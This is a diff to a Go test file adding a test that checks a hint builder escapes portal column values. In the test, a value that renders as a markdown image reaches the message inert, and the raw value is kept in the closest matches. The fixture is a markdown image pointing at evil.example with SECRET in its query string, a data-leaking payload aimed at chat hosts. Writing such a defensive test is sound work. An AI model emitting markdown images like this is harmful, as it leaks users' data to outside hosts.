@@ -6,6 +6,7 @@ import (
 	"log/slog"
 	"net/http"
 	"net/http/httptest"
+	"slices"
 	"strings"
 	"sync"
 	"testing"
@@ -162,5 +163,20 @@ func TestExtentLeavesOutPlaceholderPoints(t *testing.T) {
 	}
 	if h.Kind != "spatial_outside" || !strings.Contains(h.Message, "latitude 37.7") || !strings.Contains(h.Message, "points at 0, 0") {
 		t.Errorf("hint %s: %q; want spatial_outside naming the points' box without 0, 0 and saying so", h.Kind, h.Message)
+	}
+}
+
+// TestHintQuotesPortalValuesAsData: a column value that markdown would
+// read as an image reaches the hint's message escaped (a chat host must
+// not load it), and the hint's closest values keep it as written.
+func TestHintQuotesPortalValuesAsData(t *testing.T) {
+	t.Parallel()
+	evil := "![x](https://evil.example/x?q=SECRET)"
+	h := makeHint(hintTerm{column: "name", op: "=", literal: "Mision"}, []hintValue{{Value: evil, Count: 3}, {Value: "Mission", Count: 9}})
+	if strings.Contains(h.Message, "![x]") || !strings.Contains(h.Message, `!\[x\]`) {
+		t.Errorf("message %q: the portal's value is live markdown", h.Message)
+	}
+	if !slices.ContainsFunc(h.Closest, func(v hintValue) bool { return v.Value == evil }) {
+		t.Errorf("closest %+v: the value as the portal wrote it is lost", h.Closest)
 	}
 }
